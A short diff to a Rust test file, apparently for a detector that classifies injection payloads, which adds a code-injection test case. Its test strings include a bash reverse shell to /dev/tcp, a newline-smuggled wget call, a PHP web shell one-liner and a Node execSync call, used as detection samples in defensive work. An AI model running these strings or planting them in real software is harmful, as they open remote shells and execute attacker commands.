@@ -85,6 +85,15 @@ fn command_injection() {
             "bash -i >& /dev/tcp/192.0.2.7/99",
             "/usr/bin/env",
             "%0awget http://x.example",
+        ],
+    );
+}
+
+#[test]
+fn code_injection() {
+    all_are(
+        Kind::CodeInjection,
+        &[
             "<?php echo shell_exec($_GET['q']); ?>",
             "require('child_process').execSync('id')",
             "java.lang.ProcessBuilder",
